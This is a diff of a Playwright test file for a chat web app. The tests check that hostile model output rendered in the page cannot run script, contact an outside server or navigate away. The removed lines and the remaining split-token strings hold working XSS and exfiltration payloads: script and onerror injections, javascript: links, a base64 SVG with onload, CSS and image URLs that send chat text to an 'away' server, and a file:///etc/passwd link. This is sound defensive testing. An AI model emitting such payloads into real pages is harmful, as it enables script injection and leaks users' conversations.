@@ -2,41 +2,16 @@ import { createServer } from 'node:http';
 import type { Page } from 'playwright/test';
 import { createGate } from '../tests/fake-openai/start-fake-openai.ts';
 import { expect, test } from './fixtures.ts';
+import { attack, endlessOutputs, hostileOutputs } from './hostile-outputs.ts';
 import { listen } from './listen.ts';
 import { chatPage } from './pages/chat.ts';
 import { shellOf } from './pages/shell.ts';
 
-const attack = "globalThis.wasAttacked=true;document.title='attacked'";
-
-/** What a model under somebody else's influence may write; `away` is a server of theirs. Pieces arrive one by one. */
+/** All of it in one answer, some of it cut where a piece ends. Pieces arrive one by one. */
 function hostilePieces(away: string): string[] {
-  const lines = [
-    `<script>${attack}</script>`,
-    `<img src="x" onerror="${attack}">`,
-    `<img src="${away}/image-tag">`,
-    `![secret](${away}/image?q=what-you-said)`,
-    `![reference][picture]\n\n[picture]: ${away}/reference-image`,
-    `![inline svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMud2FzQXR0YWNrZWQ9dHJ1ZSIvPg==)`,
-    `<svg onload="${attack}"><a xlink:href="javascript:${attack}"><text>svg</text></a></svg>`,
-    `<iframe srcdoc="<script>parent.wasAttacked=true</script>"></iframe>`,
-    `<iframe src="${away}/frame"></iframe><object data="${away}/object"></object><embed src="${away}/embed">`,
-    `<meta http-equiv="refresh" content="0;url=${away}/refresh"><base href="${away}/">`,
-    `<form action="${away}/form"><input name="q" autofocus onfocus="${attack}"><button>Go on</button></form>`,
-    `<style>@import url("${away}/style");body{background:url("${away}/background")}</style>`,
-    `<link rel="stylesheet" href="${away}/sheet"><link rel="prefetch" href="${away}/prefetch">`,
-    `<video poster="${away}/poster" src="${away}/video" autoplay></video><audio src="${away}/audio" autoplay></audio>`,
-    `<details open ontoggle="${attack}"><summary>details</summary></details>`,
-    `<!-- <script>${attack}</script> --!> <img src=x onerror=${attack}> -->`,
-    `<div style="background:url(${away}/style-attribute)">styled</div>`,
-    `[plain](javascript:${attack}) [mixed](JaVaScRiPt:${attack}) [data](data:text/html,<script>${attack}</script>) [vb](vbscript:x)`,
-    `[encoded](&#106;avascript:${attack}) [tabbed](java&Tab;script:${attack}) <javascript:${attack}>`,
-    `<a href="javascript:${attack}">anchor</a> [file](file:///etc/passwd) [blob](blob:${away}/x)`,
-    `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${attack}>"]-->B\n\`\`\``,
-    `$$\\href{javascript:${attack}}{formula}$$`,
-    `\`\`\`html\n<script>${attack}</script>\n\`\`\``,
-  ];
   const split = ['[clicked](java', 'script', `:${attack})`, '\n\n', '<scr', `ipt>${attack}</scr`, 'ipt>', '\n\n'];
-  return [...lines.map((line) => `${line}\n\n`), ...split, `Read [the manual](${away}/manual?page=1) first.\n\nThe end of it.`];
+  const whole = hostileOutputs(away).map((output) => `${output}\n\n`);
+  return [...whole, ...split, `Read [the manual](${away}/manual?page=1) first.\n\nThe end of it.`];
 }
 
 /** A server nobody here should ever talk to. */
@@ -53,7 +28,9 @@ async function startAway(): Promise<{ url: string; asked: string[]; close: () =>
 /** Everything the page asks of the network, or shows instead of itself, from now on. */
 function watch(page: Page): { requests: string[]; navigations: string[]; windows: string[] } {
   const seen = { requests: [] as string[], navigations: [] as string[], windows: [] as string[] };
-  page.on('request', (request) => seen.requests.push(request.url()));
+  // What the page's own policy has refused never left.
+  page.on('requestfinished', (request) => seen.requests.push(request.url()));
+  page.on('requestfailed', (request) => request.failure()?.errorText !== 'csp' && seen.requests.push(request.url()));
   page.on('framenavigated', (frame) => seen.navigations.push(frame.url()));
   page.context().on('page', (opened) => seen.windows.push(opened.url()));
   return seen;
@@ -112,5 +89,29 @@ test('what a model writes can neither run, nor call home, nor lead away', async 
     await (await opened).waitForLoadState();
     expect(away.asked.filter((url) => url !== '/favicon.ico')).toEqual(['/manual?page=1']);
   }
+  away.close();
+});
+
+test('what a model writes to stop the page is on the screen all the same, while it comes and later', async ({ startConnected, model }) => {
+  test.slow();
+  const away = await startAway();
+  const { page } = await startConnected();
+  const chat = chatPage(page);
+  const outputs = endlessOutputs(away.url);
+  const seen = watch(page);
+  for (const [index, output] of outputs.entries()) {
+    const end = `\n\nThe end of number ${index}.`;
+    const pieces = output.match(new RegExp(`[^]{1,${Math.ceil(output.length / 20)}}`, 'gu')) ?? [];
+    model.script({ answer: { tokens: [...pieces, end] } });
+    // Each in a conversation of its own: the next question would carry all of it along.
+    await shellOf(page).newChat();
+    await chat.send(`Number ${index}`);
+    await expect(page.getByText(`The end of number ${index}.`)).toBeInViewport();
+    await expect(page.getByRole('button', { name: 'Stop' })).toBeHidden();
+  }
+  await page.reload();
+  await expect(page.getByText(`The end of number ${outputs.length - 1}.`)).toBeInViewport();
+  expect(away.asked).toEqual([]);
+  expect(seen.windows).toEqual([]);
   away.close();
 });
